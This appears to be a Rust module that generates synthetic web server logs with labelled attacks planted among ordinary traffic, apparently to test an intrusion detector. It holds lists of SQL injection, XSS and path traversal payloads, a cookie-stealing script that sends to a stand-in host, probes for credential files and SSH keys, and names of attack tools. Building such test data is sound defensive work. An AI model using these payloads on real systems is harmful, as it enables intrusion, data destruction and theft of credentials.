//! Another idea of a site and of attacks, on purpose unlike the rest of this crate: no hours of
//! the day, simple rates, and attacks not far above what is still honest. Rules that hold for both
//! are more likely to hold elsewhere.

use std::net::{IpAddr, Ipv4Addr};

use crate::access::{Access, Client, Pace};
use crate::attacks::{Planted, Threat};
use crate::clock::DAY;
use crate::merge::Script;
use crate::rng::{Rng, float, whole};

/// What to sketch.
#[derive(Debug, Clone, PartialEq)]
pub struct Sketch {
    pub seed: u64,
    /// A midnight, in seconds since 1970.
    pub start: i64,
    pub days: u32,
    /// Requests of visitors in a day.
    pub a_day: u32,
}

/// The rows in order of time, and what is planted among them. Held in memory: sketches are small.
pub struct Sketched {
    pub rows: Vec<Access>,
    pub threats: Vec<Planted>,
}

struct Drawing<'a> {
    sketch: &'a Sketch,
    rng: Rng,
    scripts: Vec<Script<Access>>,
    threats: Vec<Planted>,
    attackers: u8,
}

const AGENT: &str =
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0";

const QUERIES: &[&str] = &[
    "union station",
    "select committee on credit unions",
    "O'Brien & sons",
    "script writing",
    "drop shipping",
    "how to delete or update an order",
    "and/or",
    "table for 6 or more",
    "rock 'n' roll",
    "<3",
    "a..z index",
    "price >= 10 and <= 20",
    "what's new; what's next",
    "sleep (album)",
    "alert systems",
    "exec chairs",
    "char broiled",
    "sons' and daughters' union",
    "etc. and so on",
    "on sale = yes",
    "C:\\ drive cleaner",
    "\"order by\" phone",
    "insert tab a into slot b",
    "javascript: the good parts",
    "(union)",
    "50% off -- today",
];

const SQL_INJECTION: &[&str] = &[
    "1 or 1=1 -- -",
    "' or ''='",
    "\" or \"\"=\"",
    "admin' or '1'='1'#",
    "1' and '1'='2",
    "1 and 1=2",
    "-5' union select 1,group_concat(table_name),3 from information_schema.tables-- -",
    "1' and if(1=1,sleep(5),0)-- -",
    "1;select pg_sleep(5)",
    "1)) or sleep(3)#",
    "' union all select null--",
    "1' and ascii(substring((select database()),1,1))>64#",
    "1'; drop table orders;--",
    "1 union select @@version",
    "x'; update users set role='admin'--",
    "1' order by 1--+",
    "1' rlike sleep(5)-- ",
    "(select * from users)",
    "1%0aunion%0aselect%0a1,2",
    "1'+and+updatexml(1,concat(0x7e,user()),1)--+",
    "'||'1'='1",
];

const XSS: &[&str] = &[
    "<script>alert('x')</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<svg onload=prompt(1)>",
    "'\"><script>alert(/x/)</script>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "javascript:alert('1')",
    "<b onmouseover=alert(1)>hover</b>",
    "\" autofocus onfocus=alert(1) x=\"",
    "<marquee onstart=alert(1)>",
    "<script>document.location='http://evil.example/?c='+document.cookie</script>",
    "<x onclick=alert(1)>click</x>",
    "</title><script>alert(1)</script>",
    "<audio src onerror=alert(1)>",
    "';alert(1);//",
    "<form action=javascript:alert(1)><input type=submit>",
    "<script>eval(atob('YQ=='))</script>",
];

const PATH_TRAVERSAL: &[&str] = &[
    "../../../etc/passwd",
    "../../etc/shadow",
    "..\\..\\..\\..\\windows\\system32\\config\\sam",
    "....//....//etc/passwd",
    "../../../../../../../../var/log/apache2/access.log",
    "/../../../../etc/hosts",
    "..%00/..%00/etc/passwd",
    "../../../../home/user/.ssh/id_rsa",
    "../../wp-config.php",
    "../../../app/config.php",
    "/etc/shadow",
    "file:///c:/windows/win.ini",
    "php://input",
    "../../../../../windows/win.ini",
];

const TOOLS: &[&str] = &[
    "sqlmap/1.5.12#stable (http://sqlmap.org)",
    "Nikto/2.1.5",
    "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:map_codes)",
    "nmap",
    "masscan/1.0",
    "gobuster/3.1.0",
    "DirBuster-0.12 (http://www.owasp.org)",
    "Acunetix",
    "Nessus SOAP v0.0.1",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
    "WPScan v3.8.22",
    "ffuf/1.5.0",
    "hydra",
    "Burp Suite",
    "OpenVAS 9",
    "w3af.sourceforge.net",
    "sqlninja/0.2.6",
    "zgrab/0.x",
    "nuclei/2.9.4",
    "feroxbuster/2.7.3",
    "wfuzz/3.1.0",
    "arachni/1.5.1",
    "Havij 1.17",
    "ZAP/2.12.0",
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; Netsparker)",
    "metasploit",
    "commix/3.4",
];

const LOGINS: &[&str] = &[
    "/login",
    "/signin",
    "/api/login",
    "/wp-login.php",
    "/auth/login",
    "/admin/login.php",
];

const FILES: &[&str] = &[
    "/.env",
    "/.git/config",
    "/wp-admin/",
    "/wp-login.php",
    "/phpmyadmin/",
    "/admin.php",
    "/config.php.bak",
    "/backup.zip",
    "/.htaccess",
    "/server-status",
    "/actuator/health",
    "/.aws/credentials",
    "/shell.php",
    "/xmlrpc.php",
    "/cgi-bin/status",
    "/db.sql",
    "/test.php",
    "/.svn/entries",
    "/setup.php",
    "/manager/html",
];

impl Sketch {
    pub fn draw(&self) -> Sketched {
        let mut drawing = Drawing {
            sketch: self,
            rng: Rng::new(self.seed, 7),
            scripts: Vec::new(),
            threats: Vec::new(),
            attackers: 0,
        };
        drawing.visitors();
        drawing.machines();
        drawing.guesses();
        drawing.sweeps();
        drawing.payloads();
        drawing.floods();
        let end = self.start + i64::from(self.days) * DAY;
        let mut rows: Vec<Access> = drawing.scripts.into_iter().flatten().collect();
        rows.retain(|row| row.second < end);
        rows.sort_by_key(|row| row.second);
        Sketched {
            rows,
            threats: drawing.threats,
        }
    }
}

impl Drawing<'_> {
    fn midnight(&self, day: u32) -> i64 {
        self.sketch.start + i64::from(day) * DAY
    }

    fn script(&mut self, pace: Pace, make: impl FnMut(&mut Rng, u64, i64) -> Access + 'static) {
        let rng = Rng::new(self.rng.next(), 8);
        self.scripts.push(pace.script(rng, make));
    }

    /// Anyone at any time: some mistype an address, some a password.
    fn visitors(&mut self) {
        let addresses = u64::from(self.sketch.a_day / 15).clamp(40, 3000);
        let count = u64::from(self.sketch.a_day) * u64::from(self.sketch.days);
        let gap = 86_400.0 / f64::from(self.sketch.a_day);
        self.script(
            Pace::about(self.sketch.start, count, gap),
            move |rng, _, second| {
                let number = u32::try_from(rng.below(addresses)).unwrap_or(0);
                let client = Client::new(
                    IpAddr::from(Ipv4Addr::from_bits(0x0A00_0101 + number * 7)),
                    AGENT,
                );
                let (endpoint, status) = match rng.below(100) {
                    0..40 => ("/".into(), 200),
                    40..60 => (format!("/items/{}", rng.below(300)), 200),
                    60..75 => (format!("/api/items?page={}&size=20", rng.below(30)), 200),
                    75..85 => (
                        format!("/search?q={}", encode(rng.pick(QUERIES), true)),
                        200,
                    ),
                    85..90 => ("/login".into(), if rng.chance(0.2) { 401 } else { 302 }),
                    90..93 => (format!("/page-{}", rng.below(50)), 404),
                    93 => ("/reports/secret".into(), 403),
                    94 => ("/api/items".into(), 500),
                    _ => ("/static/main.css".into(), 304),
                };
                client.asks(rng, second, ("GET", endpoint), status, (40.0, 2000.0))
            },
        );
    }

    fn machines(&mut self) {
        let host = |number: u8| IpAddr::from(Ipv4Addr::new(172, 16, 0, number));
        let last = self.sketch.days - 1;
        // Every second, but on small sites only of late.
        let first = if self.sketch.a_day < 5000 { last } else { 0 };
        let checker = Client::new(host(1), "ELB-HealthChecker/2.0");
        let count = u64::from(last - first + 1) * 86_400;
        self.script(
            Pace::exact(self.midnight(first), count, 1.0),
            move |rng, _, second| {
                checker.asks(rng, second, ("GET", "/healthz".into()), 200, (1.0, 2.0))
            },
        );
        for day in 0..self.sketch.days {
            let batch = Client::new(host(2), "Java/11.0.2");
            self.script(
                Pace::exact(self.midnight(day) + 5400, 800, 0.5),
                move |rng, number, second| {
                    batch.asks(
                        rng,
                        second,
                        ("GET", format!("/api/items/{number}")),
                        200,
                        (20.0, 900.0),
                    )
                },
            );
            // An office from nine to five, one in six logins mistyped, a rush when it opens.
            let office = Client::new(host(3), AGENT);
            for (start, count, gap) in [(32_400, 60, 20.0), (33_600, 500, 50.0)] {
                let office = office.clone();
                self.script(
                    Pace::about(self.midnight(day) + start, count, gap),
                    move |rng, _, second| {
                        let login = rng.chance(if gap < 30.0 { 0.7 } else { 0.1 });
                        let (endpoint, status) = match (login, rng.below(6)) {
                            (true, 0) => ("/login".into(), 401),
                            (true, _) => ("/login".into(), 302),
                            (false, 0) => (format!("/old/{}", rng.below(40)), 404),
                            (false, _) => (format!("/items/{}", rng.below(300)), 200),
                        };
                        office.asks(rng, second, ("POST", endpoint), status, (40.0, 900.0))
                    },
                );
            }
            let crawler = Client::new(
                host(4),
                "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
            );
            self.script(
                Pace::about(self.midnight(day), 300, 280.0),
                move |rng, number, second| {
                    let (path, status) = if rng.chance(0.2) {
                        (format!("/archive/{}.php?id={number}", rng.below(400)), 404)
                    } else {
                        (format!("/items/{}", rng.below(300)), 200)
                    };
                    crawler.asks(rng, second, ("GET", path), status, (30.0, 4000.0))
                },
            );
        }
        // A token that expired; an app that shows pictures of people who have none; someone who
        // forgot the password.
        let start = self.midnight(last) + self.rng.between(0, 70_000);
        let client = Client::new(host(5), "python-httpx/0.25.1");
        self.script(Pace::exact(start, 1440, 5.0), move |rng, number, second| {
            let path = format!("/api/v2/inventory/{}", number % 40);
            client.asks(rng, second, ("GET", path), 401, (5.0, 60.0))
        });
        let app = Client::new(host(6), "okhttp/4.9.3");
        self.script(Pace::about(start, 240, 10.0), move |rng, number, second| {
            let missing = rng.chance(0.3);
            let path = format!("/avatars/{number}.png");
            app.asks(
                rng,
                second,
                ("GET", path),
                if missing { 404 } else { 200 },
                (5.0, 3000.0),
            )
        });
        let person = Client::new(host(7), AGENT);
        self.script(Pace::about(start, 8, 25.0), move |rng, number, second| {
            let status = if number < 7 { 401 } else { 200 };
            person.asks(
                rng,
                second,
                ("POST", "/login".into()),
                status,
                (80.0, 300.0),
            )
        });
    }

    /// An address of an attacker, and when an attack of so many seconds begins.
    fn attack(
        &mut self,
        threat: Threat,
        style: &'static str,
        (count, gap): (u64, f64),
    ) -> (Client, Pace) {
        self.attackers = self.attackers.wrapping_add(1);
        let address = IpAddr::from(Ipv4Addr::new(203, 0, 113, self.attackers));
        let exact = self.rng.chance(0.5);
        let mut pace = Pace {
            start: 0,
            count,
            gap,
            exact,
        };
        let latest = DAY - pace.end() - 60;
        let day = self.rng.between(1, i64::from(self.sketch.days) - 1);
        pace.start = self.sketch.start + day * DAY + self.rng.between(0, latest);
        self.threats.push(Planted {
            threat,
            address,
            first: pace.start,
            last: pace.end(),
            style,
        });
        (Client::new(address, AGENT), pace)
    }

    fn guesses(&mut self) {
        for (style, (least, most), (quick, slow)) in [
            ("few", (14, 20), (5.0, 20.0)),
            ("some", (25, 40), (20.0, 90.0)),
            ("many", (100, 400), (0.5, 10.0)),
            ("over hours", (60, 90), (100.0, 170.0)),
        ] {
            for success in [false, true] {
                let count = self.rng.between(least, most).cast_unsigned();
                let gap = self.rng.real(quick, slow);
                let login = self.rng.pick(LOGINS);
                let (client, pace) = self.attack(Threat::BruteForce, style, (count, gap));
                self.script(pace, move |rng, number, second| {
                    let status = if success && number + 1 == count {
                        200
                    } else {
                        401
                    };
                    client.asks(rng, second, ("POST", login.into()), status, (80.0, 300.0))
                });
            }
        }
    }

    fn sweeps(&mut self) {
        for (style, (least, most), (quick, slow), sensitive, status) in [
            ("few files", (12, 20), (1.0, 60.0), true, 404),
            ("forbidden", (25, 60), (1.0, 30.0), false, 403),
            ("numbered", (25, 60), (1.0, 30.0), false, 404),
            ("many", (100, 500), (0.3, 3.0), false, 404),
            ("over hours", (30, 60), (300.0, 800.0), false, 404),
        ] {
            let count = self.rng.between(least, most).cast_unsigned();
            let gap = self.rng.real(quick, slow);
            let base = self.rng.pick(&["/probe", "/admin", "/hidden/dir", "/x"]);
            let (client, pace) = self.attack(Threat::Scanner, style, (count, gap));
            self.script(pace, move |rng, number, second| {
                let at = usize::try_from(number).unwrap_or(0);
                let path = if sensitive {
                    FILES[at % FILES.len()].into()
                } else {
                    format!("{base}{number}")
                };
                let status = if rng.chance(0.1) { 200 } else { status };
                client.asks(rng, second, ("GET", path), status, (4.0, 200.0))
            });
        }
    }

    fn payloads(&mut self) {
        for (threat, payloads) in [
            (Threat::SqlInjection, SQL_INJECTION),
            (Threat::Xss, XSS),
            (Threat::PathTraversal, PATH_TRAVERSAL),
        ] {
            for (style, times) in [
                ("plain", 0),
                ("encoded", 1),
                ("encoded twice", 2),
                ("upper case", 1),
                ("plus", 1),
            ] {
                let count = self.rng.between(1, 6).cast_unsigned();
                let parameter = self.rng.pick(&[
                    "/items?id=",
                    "/search?q=",
                    "/view?file=",
                    "/api/items?sort=",
                ]);
                let (client, pace) = self.attack(threat, style, (count, 30.0));
                self.script(pace, move |rng, _, second| {
                    let mut payload = rng.pick(payloads).to_string();
                    if style == "upper case" && threat != Threat::PathTraversal {
                        payload.make_ascii_uppercase();
                    }
                    for _ in 0..times {
                        payload = encode(&payload, style == "plus");
                    }
                    let status = rng.pick(&[200, 403, 404, 500]);
                    client.asks(
                        rng,
                        second,
                        ("GET", format!("{parameter}{payload}")),
                        status,
                        (20.0, 900.0),
                    )
                });
            }
        }
        for _ in 0..5 {
            let count = self.rng.between(1, 20).cast_unsigned();
            let agent = self.rng.pick(TOOLS);
            let (mut client, pace) = self.attack(Threat::AttackTool, agent, (count, 3.0));
            client.agent = Some(agent.into());
            self.script(pace, move |rng, number, second| {
                client.asks(
                    rng,
                    second,
                    ("GET", format!("/items/{number}")),
                    200,
                    (20.0, 900.0),
                )
            });
        }
    }

    fn floods(&mut self) {
        // On a bigger site it takes more to stand out.
        let busy = (f64::from(self.sketch.a_day) / 20_000.0).max(1.0);
        for (style, (least, most), minutes) in [
            ("a minute", (400.0, 900.0), 1.0),
            ("some minutes", (250.0, 500.0), 4.0),
            ("half an hour", (200.0, 400.0), 30.0),
        ] {
            let a_minute = self.rng.real(least, most) * busy;
            let count = whole(a_minute * minutes);
            let path = self.rng.pick(&["/", "/api/items", "/search?q=a"]);
            let (client, pace) = self.attack(Threat::RequestFlood, style, (count, 60.0 / a_minute));
            self.script(pace, move |rng, _, second| {
                let status = if rng.chance(0.2) { 503 } else { 200 };
                client.asks(
                    rng,
                    second,
                    ("GET", path.into()),
                    status,
                    (float(count).sqrt(), 900.0),
                )
            });
        }
    }
}

/// Percent-encodes all but letters and digits; spaces as plus signs where asked for.
fn encode(text: &str, plus: bool) -> String {
    let byte = |byte: u8| match byte {
        b' ' if plus => "+".to_string(),
        _ if byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
        _ => format!("%{byte:02x}"),
    };
    text.bytes().map(byte).collect()
}
